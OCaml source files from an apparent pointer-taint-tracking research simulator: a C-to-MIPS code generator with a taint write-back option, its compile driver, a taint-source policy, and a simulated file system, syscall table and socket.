let is_scalar ty = Ctypes.is_integer ty || Ctypes.is_pointer ty

(* --- expression codegen ---

   [gen_expr] leaves the value in $t0 and returns its (decayed) type.
   [gen_addr] leaves the address of an lvalue in $t0 and returns the
   object type. *)

let rec gen_expr fs (e : expr) : Ctypes.t =
  let line = e.eline in
  match e.e with
  | Num n ->
    emit fs "li $t0, %d" (n land 0xFFFFFFFF);
    Ctypes.Int
  | Str s ->
    let l = string_label fs.st s in
    emit fs "la $t0, %s" l;
    Ctypes.Ptr Ctypes.Char
  | Var name -> (
    match lookup fs name with
    | None -> fail line ("undefined variable " ^ name)
    | Some (Global (l, (Ctypes.Func _ as ty))) ->
      (* function designator decays to its address *)
      emit fs "la $t0, %s" l;
      Ctypes.Ptr ty
    | Some b ->
      let ty = binding_type b in
      (match ty with
       | Ctypes.Array _ | Ctypes.Struct _ ->
         ignore (gen_addr fs e);
         Ctypes.decay ty
       | _ ->
         ignore (gen_addr fs e);
         emit_load fs ty;
         ty))
  | Unop ("-", a) ->
    let ty = gen_int fs a in
    emit fs "subu $t0, $zero, $t0";
    ty
  | Unop ("!", a) ->
    ignore (gen_scalar fs a);
    emit fs "sltiu $t0, $t0, 1";
    Ctypes.Int
  | Unop ("~", a) ->
    let ty = gen_int fs a in
    emit fs "nor $t0, $t0, $zero";
    ty
  | Unop (op, _) -> fail line ("unsupported unary operator " ^ op)
  | Binop (op, a, b) -> gen_binop fs line op a b
  | And (a, b) ->
    let l_false = new_label fs.st "L" and l_end = new_label fs.st "L" in
    ignore (gen_scalar fs a);
    emit fs "beqz $t0, %s" l_false;
    ignore (gen_scalar fs b);
    emit fs "sne $t0, $t0, $zero";
    emit fs "b %s" l_end;
    emit_label fs l_false;
    emit fs "li $t0, 0";
    emit_label fs l_end;
    Ctypes.Int
  | Or (a, b) ->
    let l_true = new_label fs.st "L" and l_end = new_label fs.st "L" in
    ignore (gen_scalar fs a);
    emit fs "bnez $t0, %s" l_true;
    ignore (gen_scalar fs b);
    emit fs "sne $t0, $t0, $zero";
    emit fs "b %s" l_end;
    emit_label fs l_true;
    emit fs "li $t0, 1";
    emit_label fs l_end;
    Ctypes.Int
  | Cond (c, t, f) ->
    let l_false = new_label fs.st "L" and l_end = new_label fs.st "L" in
    ignore (gen_scalar fs c);
    emit fs "beqz $t0, %s" l_false;
    let ty = gen_expr fs t in
    emit fs "b %s" l_end;
    emit_label fs l_false;
    ignore (gen_expr fs f);
    emit_label fs l_end;
    ty
  | Assign ("=", lhs, rhs) ->
    let lty = gen_addr fs lhs in
    if not (is_scalar lty) then fail line "assignment to non-scalar";
    push fs;
    ignore (gen_expr fs rhs);
    pop1 fs;
    emit_store fs lty;
    lty
  | Assign (op, lhs, rhs) ->
    (* a op= b, evaluating the address of a once *)
    let bare = String.sub op 0 (String.length op - 1) in
    let lty = gen_addr fs lhs in
    if not (is_scalar lty) then fail line "assignment to non-scalar";
    push fs; (* [addr] *)
    emit_load fs lty;
    push fs; (* [addr, old] *)
    let rty = gen_expr fs rhs in
    pop1 fs; (* $t1 = old *)
    gen_arith fs line bare lty rty;
    pop1 fs; (* $t1 = addr *)
    emit_store fs lty;
    lty
  | Incdec { pre; op; arg } ->
    let ty = gen_addr fs arg in
    if not (is_scalar ty) then fail line "++/-- on non-scalar";
    let delta = if Ctypes.is_pointer ty then elem_size fs line ty else 1 in
    let delta = if op = "++" then delta else -delta in
    (match load_width ty with
     | `Byte -> emit fs "lbu $t1, 0($t0)"
     | `Word -> emit fs "lw $t1, 0($t0)");
    emit fs "addiu $t2, $t1, %d" delta;
    (match load_width ty with
     | `Byte -> emit fs "sb $t2, 0($t0)"
     | `Word -> emit fs "sw $t2, 0($t0)");
    if pre then emit fs "move $t0, $t2" else emit fs "move $t0, $t1";
    (match (ty, pre) with
     | Ctypes.Char, false -> emit fs "andi $t0, $t0, 0xff"
     | Ctypes.Char, true -> emit fs "andi $t0, $t0, 0xff"
     | _ -> ());
    ty
  | Call (callee, args) -> gen_call fs line callee args
  | Index _ | Deref _ | Member _ | Arrow _ ->
    let ty = gen_addr fs e in
    (match ty with
     | Ctypes.Array _ | Ctypes.Struct _ -> Ctypes.decay ty
     | _ ->
       emit_load fs ty;
       ty)
  | Addr a ->
    let ty = gen_addr fs a in
    Ctypes.Ptr ty
  | Cast (ty, a) ->
    let aty = gen_expr fs a in
    (match (ty, aty) with
     | Ctypes.Char, _ -> emit fs "andi $t0, $t0, 0xff"
     | _ -> ());
    Ctypes.decay ty
  | Sizeof_type ty ->
    emit fs "li $t0, %d" (size_of fs line ty);
    Ctypes.Uint
  | Sizeof_expr a ->
    let ty = type_of fs a in
    emit fs "li $t0, %d" (size_of fs line ty);
    Ctypes.Uint

and binding_type = function Local (_, ty) | Param (_, ty) | Global (_, ty) -> ty

and gen_scalar fs e =
  let ty = gen_expr fs e in
  if not (is_scalar ty) then fail e.eline "scalar expected";
  ty

and gen_int fs e =
  let ty = gen_expr fs e in
  if not (Ctypes.is_integer ty) then fail e.eline "integer expected";
  ty

(* Arithmetic with lhs in $t1, rhs in $t0; result in $t0. *)
and gen_arith fs line op lty rty =
  let lptr = Ctypes.is_pointer lty and rptr = Ctypes.is_pointer rty in
  let scale_rhs () =
    let s = elem_size fs line lty in
    if s > 1 then begin
      emit fs "li $t2, %d" s;
      emit fs "mul $t0, $t0, $t2"
    end
  in
  match op with
  | "+" when lptr && not rptr ->
    scale_rhs ();
    emit fs "addu $t0, $t1, $t0"
  | "+" when rptr && not lptr ->
    let s = elem_size fs line rty in
    if s > 1 then begin
      emit fs "li $t2, %d" s;
      emit fs "mul $t1, $t1, $t2"
    end;
    emit fs "addu $t0, $t1, $t0"
  | "-" when lptr && rptr ->
    emit fs "subu $t0, $t1, $t0";
    let s = elem_size fs line lty in
    if s > 1 then begin
      emit fs "li $t2, %d" s;
      emit fs "divq $t0, $t0, $t2"
    end
  | "-" when lptr ->
    scale_rhs ();
    emit fs "subu $t0, $t1, $t0"
  | "+" -> emit fs "addu $t0, $t1, $t0"
  | "-" -> emit fs "subu $t0, $t1, $t0"
  | "*" -> emit fs "mul $t0, $t1, $t0"
  | "/" ->
    if lty = Ctypes.Uint || rty = Ctypes.Uint then begin
      emit fs "divu $t1, $t0";
      emit fs "mflo $t0"
    end
    else emit fs "divq $t0, $t1, $t0"
  | "%" ->
    if lty = Ctypes.Uint || rty = Ctypes.Uint then begin
      emit fs "divu $t1, $t0";
      emit fs "mfhi $t0"
    end
    else emit fs "rem $t0, $t1, $t0"
  | "&" -> emit fs "and $t0, $t1, $t0"
  | "|" -> emit fs "or $t0, $t1, $t0"
  | "^" -> emit fs "xor $t0, $t1, $t0"
  | "<<" -> emit fs "sllv $t0, $t1, $t0"
  | ">>" ->
    if lty = Ctypes.Uint then emit fs "srlv $t0, $t1, $t0"
    else emit fs "srav $t0, $t1, $t0"
  | "<" | ">" | "<=" | ">=" ->
    let slt = if Ctypes.is_unsigned_cmp lty rty then "sltu" else "slt" in
    (match op with
     | "<" -> emit fs "%s $t0, $t1, $t0" slt
     | ">" -> emit fs "%s $t0, $t0, $t1" slt
     | "<=" ->
       emit fs "%s $t0, $t0, $t1" slt;
       emit fs "xori $t0, $t0, 1"
     | ">=" ->
       emit fs "%s $t0, $t1, $t0" slt;
       emit fs "xori $t0, $t0, 1"
     | _ -> assert false)
  | "==" ->
    emit fs "xor $t0, $t1, $t0";
    emit fs "sltiu $t0, $t0, 1"
  | "!=" ->
    emit fs "xor $t0, $t1, $t0";
    emit fs "sltu $t0, $zero, $t0"
  | op -> fail line ("unsupported operator " ^ op)

and result_type line op lty rty =
  match op with
  | "<" | ">" | "<=" | ">=" | "==" | "!=" -> Ctypes.Int
  | "+" when Ctypes.is_pointer lty -> Ctypes.decay lty
  | "+" when Ctypes.is_pointer rty -> Ctypes.decay rty
  | "-" when Ctypes.is_pointer lty && Ctypes.is_pointer rty -> Ctypes.Int
  | "-" when Ctypes.is_pointer lty -> Ctypes.decay lty
  | _ ->
    if Ctypes.is_pointer lty || Ctypes.is_pointer rty then
      fail line ("invalid pointer operands to " ^ op)
    else if lty = Ctypes.Uint || rty = Ctypes.Uint then Ctypes.Uint
    else Ctypes.Int

(* Compare write-back: an optimising compiler keeps a validated value
   in the register the compare instruction just untainted, so later
   uses see it untainted.  Our accumulator-style codegen reloads from
   memory instead, which would lose the laundering the paper's rule 4
   depends on.  To model register residency we re-run the compare's
   untainting on the operand register (a real SLT against $zero) and
   store it back to the variable's home slot — but only for simple
   named scalars, never for array elements or dereferences, whose
   memory bytes genuinely stay tainted in hardware. *)
and writeback_target fs (e : expr) =
  match e.e with
  | Var name -> (
    match lookup fs name with
    | Some b when is_scalar (binding_type b) -> Some b
    | _ -> None)
  | Cast (_, inner) -> writeback_target fs inner
  | _ -> None

and emit_writeback fs reg = function
  | Local (off, ty) ->
    emit fs "slt $at, %s, $zero" reg;
    (match load_width ty with
     | `Byte -> emit fs "sb %s, %d($fp)" reg (-off)
     | `Word -> emit fs "sw %s, %d($fp)" reg (-off))
  | Param (off, ty) ->
    emit fs "slt $at, %s, $zero" reg;
    (match load_width ty with
     | `Byte -> emit fs "sb %s, %d($fp)" reg off
     | `Word -> emit fs "sw %s, %d($fp)" reg off)
  | Global (l, ty) ->
    emit fs "slt $at, %s, $zero" reg;
    emit fs "la $t2, %s" l;
    (match load_width ty with
     | `Byte -> emit fs "sb %s, 0($t2)" reg
     | `Word -> emit fs "sw %s, 0($t2)" reg)

and is_comparison = function
  | "<" | ">" | "<=" | ">=" | "==" | "!=" -> true
  | _ -> false

and gen_binop fs line op a b =
  let lty = gen_expr fs a in
  push fs;
  let rty = gen_expr fs b in
  pop1 fs;
  if is_comparison op && fs.st.untaint_writeback then begin
    (match writeback_target fs b with
     | Some bind -> emit_writeback fs "$t0" bind
     | None -> ());
    match writeback_target fs a with
    | Some bind -> emit_writeback fs "$t1" bind
    | None -> ()
  end;
  gen_arith fs line op lty rty;
  result_type line op lty rty

and gen_call fs line callee args =
  (* Direct call to a named function, or an indirect call through a
     function-pointer value (the JALR the jump detector watches). *)
  let direct =
    match callee.e with
    | Var name -> (
      match lookup fs name with
      | Some (Global (l, Ctypes.Func sg)) -> Some (l, sg)
      | _ -> None)
    | _ -> None
  in
  let sg =
    match direct with
    | Some (_, sg) -> Some sg
    | None -> (
      match type_of fs callee with
      | Ctypes.Ptr (Ctypes.Func sg) -> Some sg
      | Ctypes.Func sg -> Some sg
      | _ -> None)
  in
  (match sg with
   | Some sg ->
     let nparams = List.length sg.Ctypes.params in
     if List.length args < nparams || ((not sg.Ctypes.varargs) && List.length args > nparams)
     then fail line "wrong number of arguments"
   | None -> fail line "call of non-function");
  let n = List.length args in
  (* Push arguments right-to-left so the first argument ends lowest. *)
  List.iter
    (fun a ->
      ignore (gen_expr fs a);
      push fs)
    (List.rev args);
  (match direct with
   | Some (l, _) -> emit fs "jal %s" l
   | None ->
     ignore (gen_expr fs callee);
     emit fs "jalr $t0");
  if n > 0 then emit fs "addiu $sp, $sp, %d" (4 * n);
  emit fs "move $t0, $v0";
  match sg with Some sg -> Ctypes.decay sg.Ctypes.ret | None -> Ctypes.Int

and gen_addr fs (e : expr) : Ctypes.t =
  let line = e.eline in
  match e.e with
  | Var name -> (
    match lookup fs name with
    | None -> fail line ("undefined variable " ^ name)
    | Some (Local (off, ty)) ->
      emit fs "addiu $t0, $fp, %d" (-off);
      ty
    | Some (Param (off, ty)) ->
      emit fs "addiu $t0, $fp, %d" off;
      ty
    | Some (Global (l, ty)) ->
      emit fs "la $t0, %s" l;
      ty)
  | Deref a -> (
    match gen_expr fs a with
    | Ctypes.Ptr ty -> ty
    | Ctypes.Array (ty, _) -> ty
    | _ -> fail line "dereference of non-pointer")
  | Index (base, idx) ->
    let bty = gen_expr fs base in
    let elt =
      match Ctypes.decay bty with
      | Ctypes.Ptr ty -> ty
      | _ -> fail line "indexing non-pointer"
    in
    push fs;
    ignore (gen_int fs idx);
    let s = size_of fs line elt in
    if s > 1 then begin
      emit fs "li $t2, %d" s;
      emit fs "mul $t0, $t0, $t2"
    end;
    pop1 fs;
    emit fs "addu $t0, $t1, $t0";
    elt
  | Member (base, fld) -> (
    let bty = gen_addr fs base in
    match bty with
    | Ctypes.Struct sname -> (
      match Ctypes.field fs.st.structs sname fld with
      | Some (fty, off) ->
        if off <> 0 then emit fs "addiu $t0, $t0, %d" off;
        fty
      | None -> fail line (Printf.sprintf "no field %s in struct %s" fld sname))
    | _ -> fail line "member access on non-struct")
  | Arrow (base, fld) -> (
    match gen_expr fs base with
    | Ctypes.Ptr (Ctypes.Struct sname) -> (
      match Ctypes.field fs.st.structs sname fld with
      | Some (fty, off) ->
        if off <> 0 then emit fs "addiu $t0, $t0, %d" off;
        fty
      | None -> fail line (Printf.sprintf "no field %s in struct %s" fld sname))
    | _ -> fail line "-> on non-struct-pointer")
  | Cast (ty, a) ->
    ignore (gen_addr fs a);
    ty
  | _ -> fail line "expression is not an lvalue"

(* Static type computation (no code emitted) for sizeof and
   indirect-call signatures. *)
and type_of fs (e : expr) : Ctypes.t =
  let line = e.eline in
  match e.e with
  | Num _ -> Ctypes.Int
  | Str _ -> Ctypes.Ptr Ctypes.Char
  | Var name -> (
    match lookup fs name with
    | Some b -> (
      match binding_type b with
      | Ctypes.Func _ as f -> Ctypes.Ptr f
      | ty -> ty)
    | None -> fail line ("undefined variable " ^ name))
  | Unop (_, a) -> Ctypes.decay (type_of fs a)
  | Binop (op, a, b) -> result_type line op (type_of_decayed fs a) (type_of_decayed fs b)
  | And _ | Or _ -> Ctypes.Int
  | Cond (_, t, _) -> Ctypes.decay (type_of fs t)
  | Assign (_, lhs, _) -> Ctypes.decay (type_of fs lhs)
  | Incdec { arg; _ } -> Ctypes.decay (type_of fs arg)
  | Call (callee, _) -> (
    match type_of fs callee with
    | Ctypes.Ptr (Ctypes.Func sg) | Ctypes.Func sg -> Ctypes.decay sg.Ctypes.ret
    | _ -> fail line "call of non-function")
  | Index (base, _) -> (
    match Ctypes.decay (type_of fs base) with
    | Ctypes.Ptr ty -> ty
    | _ -> fail line "indexing non-pointer")
  | Deref a -> (
    match Ctypes.decay (type_of fs a) with
    | Ctypes.Ptr ty -> ty
    | _ -> fail line "dereference of non-pointer")
  | Addr a -> Ctypes.Ptr (type_of fs a)
  | Member (base, fld) -> (
    match type_of fs base with
    | Ctypes.Struct sname -> (
      match Ctypes.field fs.st.structs sname fld with
      | Some (ty, _) -> ty
      | None -> fail line ("no field " ^ fld))
    | _ -> fail line "member access on non-struct")
  | Arrow (base, fld) -> (
    match Ctypes.decay (type_of fs base) with
    | Ctypes.Ptr (Ctypes.Struct sname) -> (
      match Ctypes.field fs.st.structs sname fld with
      | Some (ty, _) -> ty
      | None -> fail line ("no field " ^ fld))
    | _ -> fail line "-> on non-struct-pointer")
  | Cast (ty, _) -> ty
  | Sizeof_type _ | Sizeof_expr _ -> Ctypes.Uint

and type_of_decayed fs e = Ctypes.decay (type_of fs e)

(* --- statements --- *)

let rec gen_stmt fs (s : stmt) =
  match s.s with
  | Sexpr e -> ignore (gen_expr fs e)
  | Sdecl (ty, name, init) -> gen_decl fs s.sline ty name init
  | Sblock body -> gen_block fs body
  | Sseq body -> List.iter (gen_stmt fs) body
  | Sif (c, then_, else_) ->
    let l_else = new_label fs.st "L" and l_end = new_label fs.st "L" in
    ignore (gen_scalar fs c);
    emit fs "beqz $t0, %s" l_else;
    gen_block fs then_;
    if else_ <> [] then begin
      emit fs "b %s" l_end;
      emit_label fs l_else;
      gen_block fs else_;
      emit_label fs l_end
    end
    else emit_label fs l_else
  | Swhile (c, body) ->
    let l_top = new_label fs.st "L" and l_end = new_label fs.st "L" in
    emit_label fs l_top;
    ignore (gen_scalar fs c);
    emit fs "beqz $t0, %s" l_end;
    fs.breaks <- l_end :: fs.breaks;
    fs.continues <- l_top :: fs.continues;
    gen_block fs body;
    fs.breaks <- List.tl fs.breaks;
    fs.continues <- List.tl fs.continues;
    emit fs "b %s" l_top;
    emit_label fs l_end
  | Sdo (body, c) ->
    let l_top = new_label fs.st "L" and l_cond = new_label fs.st "L" and l_end = new_label fs.st "L" in
    emit_label fs l_top;
    fs.breaks <- l_end :: fs.breaks;
    fs.continues <- l_cond :: fs.continues;
    gen_block fs body;
    fs.breaks <- List.tl fs.breaks;
    fs.continues <- List.tl fs.continues;
    emit_label fs l_cond;
    ignore (gen_scalar fs c);
    emit fs "bnez $t0, %s" l_top;
    emit_label fs l_end
  | Sfor (init, cond, step, body) ->
    let saved_frame = fs.frame in
    fs.scopes <- [] :: fs.scopes;
    (match init with Some s -> gen_stmt fs s | None -> ());
    let l_top = new_label fs.st "L" and l_step = new_label fs.st "L" and l_end = new_label fs.st "L" in
    emit_label fs l_top;
    (match cond with
     | Some c ->
       ignore (gen_scalar fs c);
       emit fs "beqz $t0, %s" l_end
     | None -> ());
    fs.breaks <- l_end :: fs.breaks;
    fs.continues <- l_step :: fs.continues;
    gen_block fs body;
    fs.breaks <- List.tl fs.breaks;
    fs.continues <- List.tl fs.continues;
    emit_label fs l_step;
    (match step with Some e -> ignore (gen_expr fs e) | None -> ());
    emit fs "b %s" l_top;
    emit_label fs l_end;
    fs.scopes <- List.tl fs.scopes;
    fs.frame <- saved_frame
  | Sreturn e ->
    (match e with
     | Some e ->
       ignore (gen_expr fs e);
       emit fs "move $v0, $t0"
     | None -> ());
    emit fs "b %s" fs.epilogue
  | Sswitch (scrutinee, cases) ->
    (* dispatch by sequential compares (cases are few in practice),
       then bodies in source order so fallthrough is just fallthrough *)
    ignore (gen_scalar fs scrutinee);
    let l_end = new_label fs.st "L" in
    let labelled =
      List.map (fun (value, body) -> (value, body, new_label fs.st "L")) cases
    in
    List.iter
      (fun (value, _, label) ->
        match value with
        | Some v ->
          emit fs "li $t1, %d" v;
          emit fs "beq $t0, $t1, %s" label
        | None -> ())
      labelled;
    (match List.find_opt (fun (v, _, _) -> v = None) labelled with
     | Some (_, _, label) -> emit fs "b %s" label
     | None -> emit fs "b %s" l_end);
    fs.breaks <- l_end :: fs.breaks;
    List.iter
      (fun (_, body, label) ->
        emit_label fs label;
        gen_block fs body)
      labelled;
    fs.breaks <- List.tl fs.breaks;
    emit_label fs l_end
  | Sbreak -> (
    match fs.breaks with
    | l :: _ -> emit fs "b %s" l
    | [] -> fail s.sline "break outside loop")
  | Scontinue -> (
    match fs.continues with
    | l :: _ -> emit fs "b %s" l
    | [] -> fail s.sline "continue outside loop")

and gen_decl fs line ty name init =
  (match ty with
   | Ctypes.Void -> fail line "void variable"
   | _ -> ());
  let off = alloc_local fs line ty in
  bind fs name (Local (off, ty));
  match init with
  | None -> ()
  | Some (Iexpr e) ->
    if not (is_scalar ty) then fail line "scalar initialiser for non-scalar";
    ignore (gen_expr fs e);
    emit fs "addiu $t1, $fp, %d" (-off);
    emit_store fs ty
  | Some (Istring s) -> (
    match ty with
    | Ctypes.Array (Ctypes.Char, n) ->
      if String.length s + 1 > n then fail line "string initialiser too long";
      let l = string_label fs.st s in
      (* copy the literal (including NUL) into the local array *)
      emit fs "la $t1, %s" l;
      emit fs "addiu $t2, $fp, %d" (-off);
      let l_top = new_label fs.st "L" in
      emit_label fs l_top;
      emit fs "lbu $t0, 0($t1)";
      emit fs "sb $t0, 0($t2)";
      emit fs "addiu $t1, $t1, 1";
      emit fs "addiu $t2, $t2, 1";
      emit fs "bnez $t0, %s" l_top
    | _ -> fail line "string initialiser for non-char-array")
  | Some (Ilist es) -> (
    match ty with
    | Ctypes.Array (elt, n) ->
      if List.length es > n then fail line "too many initialisers";
      if not (is_scalar elt) then fail line "unsupported aggregate element";
      let esz = size_of fs line elt in
      List.iteri
        (fun i e ->
          ignore (gen_expr fs e);
          emit fs "addiu $t1, $fp, %d" (-off + (i * esz));
          emit_store fs elt)
        es
    | _ -> fail line "brace initialiser for non-array")

and gen_block fs body =
  let saved_frame = fs.frame in
  fs.scopes <- [] :: fs.scopes;
  List.iter (gen_stmt fs) body;
  fs.scopes <- List.tl fs.scopes;
  fs.frame <- saved_frame

(* --- constant expressions for global initialisers --- *)

type const_val = Cint of int | Csym of string | Csym_off of string * int

let rec const_expr st (e : expr) : const_val =
  match e.e with
  | Num n -> Cint n
  | Str s -> Csym (string_label st s)
  | Var name -> Csym name (* resolved by the assembler: function or global label *)
  | Unop ("-", a) -> (
    match const_expr st a with
    | Cint n -> Cint (-n)
    | _ -> fail e.eline "bad constant expression")
  | Binop (op, a, b) -> (
    match (const_expr st a, const_expr st b, op) with
    | Cint x, Cint y, "+" -> Cint (x + y)
    | Cint x, Cint y, "-" -> Cint (x - y)
    | Cint x, Cint y, "*" -> Cint (x * y)
    | Cint x, Cint y, "/" when y <> 0 -> Cint (x / y)
    | Cint x, Cint y, "<<" -> Cint (x lsl y)
    | Cint x, Cint y, ">>" -> Cint (x lsr y)
    | Cint x, Cint y, "|" -> Cint (x lor y)
    | Cint x, Cint y, "&" -> Cint (x land y)
    | Csym s, Cint y, "+" -> Csym_off (s, y)
    | _ -> fail e.eline "bad constant expression")
  | Addr { e = Var name; _ } -> Csym name
  | Cast (_, a) -> const_expr st a
  | _ -> fail e.eline "bad constant expression"

(* --- top level --- *)

let emit_data st fmt = Printf.ksprintf (fun s -> Buffer.add_string st.data ("        " ^ s ^ "\n")) fmt
let emit_data_label st l = Buffer.add_string st.data (l ^ ":\n")

let asciiz_escape s =
  let buf = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | '\t' -> Buffer.add_string buf "\\t"
      | '\r' -> Buffer.add_string buf "\\r"
      | c when Char.code c < 32 || Char.code c > 126 ->
        Buffer.add_string buf (Printf.sprintf "\\x%02x" (Char.code c))
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let gen_global st line ty name init =
  emit_data st ".align 2";
  emit_data_label st name;
  let size = try Ctypes.size_of st.structs ty with Invalid_argument m -> fail line m in
  match (init, ty) with
  | None, _ -> emit_data st ".space %d" size
  | Some (Istring s), Ctypes.Array (Ctypes.Char, n) ->
    if String.length s + 1 > n then fail line "string initialiser too long";
    emit_data st ".asciiz \"%s\"" (asciiz_escape s);
    if n > String.length s + 1 then emit_data st ".space %d" (n - String.length s - 1)
  | Some (Istring _), _ -> fail line "string initialiser for non-char-array"
  | Some (Iexpr e), _ when is_scalar ty -> (
    match const_expr st e with
    | Cint n -> if Ctypes.size_of st.structs ty = 1 then emit_data st ".byte %d" (n land 0xff) else emit_data st ".word %d" n
    | Csym s -> emit_data st ".word %s" s
    | Csym_off _ -> fail line "symbol+offset initialiser unsupported")
  | Some (Iexpr _), _ -> fail line "scalar initialiser for aggregate"
  | Some (Ilist es), Ctypes.Array (elt, n) ->
    if List.length es > n then fail line "too many initialisers";
    let esz = try Ctypes.size_of st.structs elt with Invalid_argument m -> fail line m in
    List.iter
      (fun e ->
        match const_expr st e with
        | Cint v -> if esz = 1 then emit_data st ".byte %d" (v land 0xff) else emit_data st ".word %d" v
        | Csym s -> emit_data st ".word %s" s
        | Csym_off _ -> fail line "symbol+offset initialiser unsupported")
      es;
    let remaining = (n - List.length es) * esz in
    if remaining > 0 then emit_data st ".space %d" remaining
  | Some (Ilist _), _ -> fail line "brace initialiser for non-array"

let gen_function st ~ret ~name ~params ~body ~line =
  let fs =
    { st;
      fname = name;
      ret;
      scopes = [ [] ];
      frame = 0;
      max_frame = 0;
      body = Buffer.create 1024;
      epilogue = new_label st "Lepi";
      breaks = [];
      continues = [] }
  in
  ignore fs.fname;
  ignore fs.ret;
  (* parameters live at fp+8, fp+12, ... *)
  List.iteri
    (fun i (ty, pname) ->
      let ty = Ctypes.decay ty in
      (match ty with
       | Ctypes.Struct _ -> fail line "struct parameters unsupported (pass a pointer)"
       | _ -> ());
      if pname <> "" then bind fs pname (Param (8 + (4 * i), ty)))
    params;
  gen_block fs body;
  (* Fall off the end: return 0. *)
  emit fs "li $v0, 0";
  emit_label fs fs.epilogue;
  emit fs "move $sp, $fp";
  emit fs "lw $fp, 0($sp)";
  emit fs "lw $ra, 4($sp)";
  emit fs "addiu $sp, $sp, 8";
  emit fs "jr $ra";
  (* Prologue, now that the frame size is known. *)
  Buffer.add_string st.text (name ^ ":\n");
  Buffer.add_string st.text "        addiu $sp, $sp, -8\n";
  Buffer.add_string st.text "        sw $ra, 4($sp)\n";
  Buffer.add_string st.text "        sw $fp, 0($sp)\n";
  Buffer.add_string st.text "        move $fp, $sp\n";
  if fs.max_frame > 0 then
    Buffer.add_string st.text (Printf.sprintf "        addiu $sp, $sp, %d\n" (-fs.max_frame));
  Buffer.add_buffer st.text fs.body

let generate ?(untaint_writeback = true) (program : Cast.program) =
  let st =
    { structs = Hashtbl.create 16;
      globals = Hashtbl.create 64;
      strings = Hashtbl.create 64;
      string_order = [];
      label_counter = 0;
      text = Buffer.create 16384;
      data = Buffer.create 4096;
      untaint_writeback }
  in
  (* Collect struct layouts and global signatures first so order of
     definition does not matter. *)
  List.iter
    (function
      | Tstruct { name; fields } ->
        Hashtbl.replace st.structs name (Ctypes.layout_struct st.structs fields)
      | _ -> ())
    program;
  List.iter
    (function
      | Tfunc { ret; name; params; varargs; fline; _ } ->
        (match Hashtbl.find_opt st.globals name with
         | Some (Ctypes.Func _) | None -> ()
         | Some _ -> fail fline (name ^ " redefined as function"));
        Hashtbl.replace st.globals name
          (Ctypes.Func { ret; params = List.map (fun (t, _) -> Ctypes.decay t) params; varargs })
      | Tproto { ret; name; params; varargs } ->
        Hashtbl.replace st.globals name
          (Ctypes.Func { ret; params = List.map Ctypes.decay params; varargs })
      | Tglobal { ty; name; gline; _ } ->
        (match Hashtbl.find_opt st.globals name with
         | Some _ -> fail gline ("global " ^ name ^ " redefined")
         | None -> ());
        Hashtbl.replace st.globals name ty
      | Tstruct _ -> ())
    program;
  let defined = Hashtbl.create 64 in
  List.iter
    (function
      | Tfunc { ret; name; params; body; fline; _ } ->
        if Hashtbl.mem defined name then fail fline ("function " ^ name ^ " defined twice");
        Hashtbl.replace defined name ();
        gen_function st ~ret ~name ~params ~body ~line:fline
      | Tglobal { ty; name; init; gline } -> gen_global st gline ty name init
      | Tproto _ | Tstruct _ -> ())
    program;
  (* String literals. *)
  List.iter
    (fun (l, s) ->
      emit_data_label st l;
      emit_data st ".asciiz \"%s\"" (asciiz_escape s))
    (List.rev st.string_order);
  ".text\n" ^ Buffer.contents st.text ^ ".data\n" ^ Buffer.contents st.data
