exception Error of { line : int; message : string; phase : string }

let compile_to_asm ?untaint_writeback source =
  try Cgen.generate ?untaint_writeback (Cparse.parse source) with
  | Clexer.Error { line; message } -> raise (Error { line; message; phase = "lex" })
  | Cparse.Error { line; message } -> raise (Error { line; message; phase = "parse" })
  | Cgen.Error { line; message } -> raise (Error { line; message; phase = "codegen" })

let compile ?untaint_writeback ?(extra_asm = []) source =
  let asm = String.concat "\n" (compile_to_asm ?untaint_writeback source :: extra_asm) in
  match Ptaint_asm.Assembler.assemble asm with
  | Ok p -> p
  | Error e ->
    (* An assembler error on compiler output is a compiler bug; point
       at the offending assembly line to make it debuggable. *)
    let lines = String.split_on_char '\n' asm in
    let context = try List.nth lines (e.Ptaint_asm.Assembler.line - 1) with _ -> "?" in
    raise
      (Error
         { line = e.Ptaint_asm.Assembler.line;
           message =
             Format.asprintf "generated assembly rejected: %a (line: %s)"
               Ptaint_asm.Assembler.pp_error e context;
           phase = "assemble" })
