(** Taint-source policy: which external input channels mark data
    tainted (paper section 4.4: network, file system, keyboard,
    command-line arguments, environment variables). *)

type t = {
  network : bool;
  file : bool;
  stdin : bool;
  args : bool;
  env : bool;
}

val all : t
(** The paper's configuration — every external source is tainted. *)

val none : t
val network_only : t
