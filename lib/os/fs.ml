type t = (string, string) Hashtbl.t

let create () : t = Hashtbl.create 16
let add t ~path content = Hashtbl.replace t path content
let read t ~path = Hashtbl.find_opt t path
let exists t ~path = Hashtbl.mem t path
let remove t ~path = Hashtbl.remove t path

let append t ~path s =
  let existing = Option.value ~default:"" (Hashtbl.find_opt t path) in
  Hashtbl.replace t path (existing ^ s)

let truncate t ~path = Hashtbl.replace t path ""
let paths t = Hashtbl.fold (fun k _ acc -> k :: acc) t [] |> List.sort compare
