let sys_exit = 1
let sys_read = 2
let sys_write = 3
let sys_open = 4
let sys_close = 5
let sys_sbrk = 6
let sys_recv = 7
let sys_send = 8
let sys_socket = 9
let sys_accept = 10
let sys_getuid = 11
let sys_setuid = 12
let sys_exec = 13
let sys_time = 14
let sys_getpid = 15
let sys_guard = 16
let sys_unguard = 17

let name = function
  | 1 -> "exit" | 2 -> "read" | 3 -> "write" | 4 -> "open" | 5 -> "close"
  | 6 -> "sbrk" | 7 -> "recv" | 8 -> "send" | 9 -> "socket" | 10 -> "accept"
  | 11 -> "getuid" | 12 -> "setuid" | 13 -> "exec" | 14 -> "time" | 15 -> "getpid"
  | 16 -> "guard" | 17 -> "unguard"
  | n -> Printf.sprintf "sys#%d" n
