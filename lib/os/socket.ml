type t = {
  mutable pending : string list list;
  mutable current : string list;
  mutable active : bool;
  mutable sent_rev : string list;
}

let create ~sessions = { pending = sessions; current = []; active = false; sent_rev = [] }

let accept t =
  match t.pending with
  | [] ->
    t.active <- false;
    false
  | session :: rest ->
    t.pending <- rest;
    t.current <- session;
    t.active <- true;
    true

let recv t ~max =
  match t.current with
  | [] -> ""
  | msg :: rest ->
    if String.length msg <= max then begin
      t.current <- rest;
      msg
    end
    else begin
      t.current <- String.sub msg max (String.length msg - max) :: rest;
      String.sub msg 0 max
    end

let send t s = t.sent_rev <- s :: t.sent_rev
let sent t = List.rev t.sent_rev
